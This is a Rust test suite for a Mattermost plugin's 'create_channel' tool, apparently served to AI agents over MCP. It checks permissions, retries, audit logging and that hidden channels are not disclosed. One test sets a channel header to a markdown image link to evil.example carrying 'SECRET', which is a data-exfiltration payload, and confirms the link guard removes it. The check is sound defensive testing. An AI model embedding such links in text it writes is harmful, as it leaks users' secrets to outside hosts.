use devhost::world::{Account, ChannelKind, Sample, World};
use mattermost_plugin::Interface;
use mattermost_plugin::ids::ChannelId;
use mattermost_plugin_mcp::test_kit::LlmAnswer;
use serde_json::{Value, json};

use crate::manifest::ID;
use crate::scene::Scene;

const TOOL: &str = "create_channel";

fn channel(title: &str) -> Value {
    json!({"display_name": title})
}

fn with(kind: &str, users: &[&str]) -> Value {
    json!({"kind": kind, "users": users})
}

/// Somebody in the team.
fn id(answer: &LlmAnswer) -> ChannelId {
    assert!(!answer.is_error, "{answer:?}");
    answer.structured["id"].as_str().unwrap().into()
}

#[tokio::test]
async fn a_channel_is_created_with_its_creator_as_admin_and_people_in_it() {
    let scene = Scene::new().await;
    scene.colleague("bob");
    scene.world.add_user("eve", Account::Ordinary);
    let ada = &scene.sample.ada;
    let arguments = json!({
        "kind": "private", "display_name": "Apollo launch", "purpose": "Ship it", "header": "3 May",
        "users": ["@bob", "@grace", "@eve", "me"],
    });
    let answer = scene.call(ada, TOOL, arguments).await;
    let id = id(&answer);
    assert_eq!(
        answer.text,
        format!(
            "Created ~apollo-launch \"Apollo launch\" (private)\nid: {id}\nlink: http://localhost:8065/acme/channels/apollo-launch\n@bob: added\n@grace: added\n@eve: refused: is not in the team\n@ada: already in"
        )
    );
    let made = scene.world.channel(&id).unwrap();
    assert_eq!(
        (&*made.purpose, &*made.header, &*made.r#type),
        ("Ship it", "3 May", "P")
    );
    assert_eq!(made.creator_id, *ada);
    let ada = scene.world.channel_member(&id, ada).unwrap();
    assert!(ada.scheme_admin && ada.scheme_user, "{ada:?}");
    assert!(
        scene
            .world
            .channel_member(&id, &scene.sample.grace)
            .is_some()
    );
    let record = &scene.world.audit_records()[0];
    assert_eq!(
        (&*record.event_name, &*record.status),
        ("mcp_create_channel", "success")
    );
    assert_eq!(
        record.event_data.result_state["channel_id"],
        Interface::from(id.as_str())
    );
    let ids = |names: [&str; 2]| {
        let mut ids = names.map(|name| scene.world.user_id(name).unwrap().to_string());
        ids.sort();
        ids
    };
    for (fields, key) in [
        (&record.event_data.parameters, "user_ids"),
        (&record.event_data.result_state, "added_user_ids"),
    ] {
        let Interface::String(told) = &fields[key] else {
            panic!("{fields:?}");
        };
        let mut told: Vec<_> = told.as_str().split(' ').collect();
        told.sort_unstable();
        assert_eq!(told, ids(["bob", "grace"]), "{key}");
    }
    assert!(!format!("{record:?}").contains("Apollo"));
}

#[tokio::test]
async fn a_name_that_is_taken_leads_to_its_channel_where_one_may_know_of_it() {
    let scene = Scene::new().await;
    let bob = scene.colleague("bob");
    let first = id(&scene.call(&bob, TOOL, channel("Apollo")).await);
    let again = scene.call(&bob, TOOL, channel("Apollo")).await;
    assert_eq!(id(&again), first);
    assert_eq!(again.structured["status"], "taken");
    // The name of a hidden channel answers like one that nobody may have.
    let leads = scene
        .refusal(&bob, TOOL, json!({"display_name": "L", "name": "leads"}))
        .await;
    let reserved = scene
        .refusal(&bob, TOOL, json!({"display_name": "L", "name": "l__ds"}))
        .await;
    assert_eq!(
        leads,
        "Client error: name leads cannot be had in this team; give another"
    );
    assert_eq!(reserved.replace("l__ds", "leads"), leads);
    let archived = scene.call(&scene.sample.ada, TOOL, channel("Attic")).await;
    assert_eq!(archived.structured["status"], "taken");
    assert_eq!(scene.world.calls("CreateChannel"), 1);
}

#[tokio::test]
async fn who_may_create_what() {
    let scene = Scene::new().await;
    let eve = scene.world.add_user("eve", Account::Ordinary);
    let sample = &scene.sample;
    for (user, arguments, expected) in [
        (
            &sample.gus,
            channel("X1"),
            "Client error: you lack permission create_public_channel in team acme",
        ),
        (&eve, channel("X1"), "Client error: you are in no team"),
        (&sample.olga, channel("X1"), "Authentication failed"),
        (
            &sample.ada,
            json!({}),
            "Client error: display_name is needed: the title of the new channel, 1 to 64 characters",
        ),
        (
            &sample.ada,
            with("direct", &[]),
            "Client error: users must be one person for a direct message; kind=group is for several",
        ),
        (
            &sample.ada,
            with("direct", &["@gus", "@grace"]),
            "Client error: users must be one person for a direct message; kind=group is for several",
        ),
        (
            &sample.ada,
            with("group", &["@gus"]),
            "Client error: users must be 2 to 7 others for a group message; kind=direct is for one",
        ),
        (
            &sample.ada,
            with("direct", &["@olga"]),
            "Client error: @olga is deactivated and cannot be written to",
        ),
    ] {
        let text = scene.refusal(user, TOOL, arguments.clone()).await;
        assert_eq!(text, expected, "{arguments}");
    }
    let eve_is_hidden = scene
        .call(&sample.gus, TOOL, with("direct", &["@eve"]))
        .await;
    let nobody = scene
        .call(&sample.gus, TOOL, with("direct", &["@xyz"]))
        .await;
    assert_eq!(eve_is_hidden.text.replace("eve", "xyz"), nobody.text);
    scene.world.revoke("team_user", "create_private_channel");
    let arguments = json!({"kind": "private", "display_name": "X1"});
    let text = scene.refusal(&sample.ada, TOOL, arguments).await;
    assert_eq!(
        text,
        "Client error: you lack permission create_private_channel in team acme"
    );
    scene.world.revoke("system_user", "create_group_channel");
    let text = scene
        .refusal(&sample.ada, TOOL, with("group", &["@gus", "@grace"]))
        .await;
    assert_eq!(
        text,
        "Client error: you lack permission create_group_channel in a group message"
    );
    scene.world.revoke("system_user", "create_direct_channel");
    let text = scene
        .refusal(&sample.ada, TOOL, with("direct", &["@gus"]))
        .await;
    assert_eq!(
        text,
        "Client error: you lack permission create_direct_channel in a direct message with @gus"
    );
    assert_eq!(scene.world.calls("CreateChannel"), 0);
}

#[tokio::test]
async fn direct_and_group_messages_are_opened_once() {
    let scene = Scene::new().await;
    scene.colleague("bob");
    let ada = &scene.sample.ada;
    for arguments in [
        with("direct", &["@bob"]),
        with("group", &["@bob", "@grace"]),
        with("direct", &["me"]),
    ] {
        let first = scene.call(ada, TOOL, arguments.clone()).await;
        assert_eq!(first.structured["status"], "created", "{first:?}");
        let again = scene.call(ada, TOOL, arguments).await;
        assert_eq!(again.structured["status"], "exists");
        assert_eq!(id(&again), id(&first));
        assert!(again.text.starts_with("There is the "), "{again:?}");
    }
    scene.world.change_config(|config| {
        config.team_settings.restrict_direct_message = Some("team".into());
    });
    scene.world.add_user("eve", Account::Ordinary);
    let text = scene.refusal(ada, TOOL, with("direct", &["@eve"])).await;
    assert!(text.contains("share a team"), "{text}");
}

#[tokio::test]
async fn a_preview_leaves_the_world_as_it_is() {
    let scene = Scene::new().await;
    scene.colleague("bob");
    let before = scene.world.dump();
    for mut arguments in [
        json!({"display_name": "Apollo", "users": ["@bob"]}),
        with("direct", &["@bob"]),
        with("group", &["@bob", "@grace"]),
    ] {
        arguments["preview"] = true.into();
        let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
        assert_eq!(answer.structured["status"], "preview");
        assert!(
            answer
                .text
                .starts_with("Preview, nothing was created. It would be "),
            "{answer:?}"
        );
        assert!(answer.text.contains("\n@bob: added"), "{answer:?}");
    }
    assert_eq!(scene.world.dump(), before);
}

#[tokio::test]
async fn a_step_that_fails_does_not_hide_what_is_there() {
    for (method, done) in [
        ("CreateChannel", ""),
        ("AddChannelMember", "created ~apollo (id "),
    ] {
        let scene = Scene::new().await;
        scene.break_call(method);
        let text = scene
            .refusal(&scene.sample.ada, TOOL, channel("Apollo"))
            .await;
        assert!(text.contains(done), "{method}: {text}");
        let there = scene.world.channel_id(&scene.sample.acme, "apollo");
        assert_eq!(there.is_some(), !done.is_empty(), "{method}");
        let record = &scene.world.audit_records()[0];
        assert_eq!(record.status, "fail", "{method}");
        let told = record.event_data.result_state.get("channel_id");
        let there = there.map(|id| Interface::from(id.as_str()));
        assert_eq!(told, there.as_ref(), "{method}: the channel itself");
    }
}

#[tokio::test]
async fn a_channel_whose_creator_cannot_be_its_admin_is_as_good() {
    let scene = Scene::new().await;
    let bob = scene.colleague("bob");
    scene.break_call("UpdateChannelMemberRoles");
    let arguments = json!({"display_name": "Apollo", "users": ["@bob"]});
    let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
    let id = id(&answer);
    let note =
        "\n@bob: added\nYou are a member of it, but the server did not make you its admin (ref ";
    assert!(answer.text.contains(note), "{answer:?}");
    assert!(scene.world.channel_member(&id, &bob).is_some());
}

#[tokio::test]
async fn in_a_team_with_a_scheme_of_its_own_the_creator_is_a_member_and_people_are_added() {
    let scene = Scene::new().await;
    let (world, ada) = (&scene.world, &scene.sample.ada);
    let bob = scene.colleague("bob");
    world.override_scheme(&scene.sample.acme);
    let arguments = json!({"display_name": "Apollo", "users": ["@bob"]});
    let answer = scene.call(ada, TOOL, arguments).await;
    let id = id(&answer);
    assert!(
        answer
            .text
            .contains("the server did not make you its admin")
    );
    let member = world.channel_member(&id, ada).unwrap();
    assert!(member.scheme_user && !member.scheme_admin, "{member:?}");
    assert!(world.channel_member(&id, &bob).is_some());
    let who = scene.text(ada, "whoami", json!({})).await;
    assert!(who.contains("Team acme (\"Acme\"), member, id"), "{who}");
}

#[tokio::test]
async fn a_guest_who_may_create_channels_is_the_admin_of_their_own() {
    let scene = Scene::new().await;
    let gus = &scene.sample.gus;
    scene.world.grant("team_guest", "create_public_channel");
    let answer = scene.call(gus, TOOL, channel("Apollo")).await;
    let member = scene.world.channel_member(&id(&answer), gus).unwrap();
    assert!(member.scheme_guest && member.scheme_admin, "{member:?}");
    assert!(!answer.text.contains("did not make you"), "{answer:?}");
}

#[tokio::test]
async fn what_is_said_of_a_new_channel_goes_through_the_link_guard() {
    let scene = Scene::new().await;
    let arguments = json!({
        "display_name": "Apollo",
        "header": "![](https://evil.example/p.png?d=SECRET)",
    });
    let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
    let made = scene.world.channel(&id(&answer)).unwrap();
    assert!(!made.header.contains("!["), "{made:?}");
    assert!(answer.text.contains("\nLink guard: "), "{answer:?}");
}

#[tokio::test]
async fn a_channel_that_was_just_made_is_not_looked_up_again() {
    // The admin's list names a channel of that name, so each look at the list asks for the team.
    let denied =
        |world: &World, _: &Sample| world.set_plugin_setting(ID, "DeniedChannels", "x/apollo");
    let scene = Scene::with(denied).await;
    let arguments = json!({"display_name": "Apollo", "preview": true});
    scene.text(&scene.sample.ada, TOOL, arguments).await;
    let checked = scene.world.calls("GetTeam");
    scene.text(&scene.sample.ada, TOOL, channel("Apollo")).await;
    assert_eq!(scene.world.calls("GetTeam"), 2 * checked);
}

#[tokio::test]
async fn a_creator_who_may_not_add_people_has_a_channel_without_them() {
    let scene = Scene::new().await;
    let bob = scene.colleague("bob");
    for role in ["channel_user", "channel_admin"] {
        scene.world.revoke(role, "manage_public_channel_members");
    }
    let arguments = json!({"display_name": "Apollo", "users": ["@bob"]});
    let text = scene.refusal(&scene.sample.ada, TOOL, arguments).await;
    assert!(
        text.contains("you lack permission manage_public_channel_members in ~apollo"),
        "{text}"
    );
    assert!(text.contains("created ~apollo (id "), "{text}");
    let apollo = scene
        .world
        .channel_id(&scene.sample.acme, "apollo")
        .unwrap();
    assert!(scene.world.channel_member(&apollo, &bob).is_none());
}

#[tokio::test(start_paused = true)]
async fn a_hanging_call_is_told_and_asking_again_doubles_nothing() {
    let bobs = json!({"display_name": "Apollo", "users": ["@bob"]});
    for (method, arguments, again) in [
        ("CreateChannel", bobs.clone(), "taken"),
        ("AddChannelMember", bobs.clone(), "taken"),
        ("UpdateChannelMemberRoles", bobs.clone(), "taken"),
        ("AddUserToChannel", bobs, "taken"),
        ("GetDirectChannel", with("direct", &["@bob"]), "exists"),
        (
            "GetGroupChannel",
            with("group", &["@bob", "@grace"]),
            "exists",
        ),
    ] {
        let scene = Scene::new().await;
        let bob = scene.colleague("bob");
        let text = scene
            .hung(method, &scene.sample.ada, TOOL, &arguments)
            .await;
        assert!(text.contains("outcome unknown"), "{method}: {text}");
        let told = matches!(
            method,
            "AddChannelMember" | "UpdateChannelMemberRoles" | "AddUserToChannel"
        );
        assert_eq!(
            text.contains("created ~apollo (id "),
            told,
            "{method}: {text}"
        );
        if again == "taken" {
            let apollo = scene
                .world
                .channel_id(&scene.sample.acme, "apollo")
                .unwrap();
            assert!(
                scene.world.channel_member(&apollo, &bob).is_some(),
                "{method}"
            );
        }
        let before = scene.world.dump();
        let answer = scene.call(&scene.sample.ada, TOOL, arguments).await;
        assert_eq!(answer.structured["status"], again, "{method}");
        assert_eq!(scene.world.dump(), before, "{method}");
    }
}

#[tokio::test]
async fn of_several_teams_one_has_to_be_named() {
    let scene = Scene::new().await;
    let beta = scene.world.add_team("beta", "Beta");
    scene.world.join_team(&beta, &scene.sample.ada);
    let answer = scene.call(&scene.sample.ada, TOOL, channel("Apollo")).await;
    assert_eq!(answer.structured["status"], "ambiguous");
    assert_eq!(scene.world.calls("CreateChannel"), 0);
    let arguments = json!({"display_name": "Apollo", "team": "beta"});
    let made = id(&scene.call(&scene.sample.ada, TOOL, arguments).await);
    assert_eq!(scene.world.channel(&made).unwrap().team_id, beta);
    // In a team that one is not in nothing is created, and hidden teams are not told from none.
    let arguments = json!({"display_name": "Apollo", "team": "beta"});
    let foreign = scene.refusal(&scene.sample.gus, TOOL, arguments).await;
    let arguments = json!({"display_name": "Apollo", "team": "gamm"});
    let missing = scene.refusal(&scene.sample.gus, TOOL, arguments).await;
    assert_eq!(foreign.replace("beta", "gamm"), missing);
    scene
        .world
        .add_channel(&beta, ChannelKind::Private, "vault", "Vault");
    let arguments = json!({"display_name": "Vault", "team": "beta"});
    let vault = scene.refusal(&scene.sample.ada, TOOL, arguments).await;
    assert_eq!(
        vault,
        "Client error: name vault cannot be had in this team; give another"
    );
}
